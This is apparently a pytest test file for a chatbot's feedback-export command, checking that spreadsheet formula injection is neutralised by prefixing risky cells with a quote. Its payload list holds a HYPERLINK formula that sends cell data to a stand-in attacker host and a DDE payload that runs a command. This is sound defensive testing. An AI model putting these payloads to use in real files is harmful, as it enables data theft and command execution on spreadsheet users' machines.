"""CSV formula injection: `journeybot feedback export` is opened in spreadsheets, and its cells
hold what people asked and what documents said. A cell starting with `=`, `+`, `-`, `@`, tab
or CR would run as a formula there; the export prefixes such text with a single quote."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from click.testing import CliRunner

from bot.answering.feedback import store_answer
from bot.cli import main
from knowledge.models import Answer, Source
from metrics.db import connect
from metrics.feedback import record_rating

FORMULAS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_exported_text_that_starts_like_a_formula_is_prefixed_with_a_quote(
    formula: str, database_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    engine = connect(database_url)
    answer_id = store_answer(
        engine,
        user_id="U0ALICE",
        channel="C0GENERAL",
        thread_ts="1.1",
        question=formula,
        answer=Answer(
            answered=True,
            answer=formula,
            language="en",
            sources=[Source(title=formula, source="doc.md", snippet="", score=1.0)],
        ),
    )
    record_rating(engine, answer_id, user_id="U0BOB", rating=-1)
    monkeypatch.setenv("DATABASE_URL", database_url)
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(main, ["feedback", "export", "--output", "ratings.csv"])
    assert result.exit_code == 0, result.output
    with (tmp_path / "ratings.csv").open(newline="", encoding="utf-8") as f:
        [row] = list(csv.DictReader(f))
    assert row["question"] == row["answer"] == f"'{formula}"
    assert row["rating"] == "-1"  # a number, not text: left as it is
    assert row["sources"].startswith("[{")  # JSON starts with `[`: nothing to neutralise
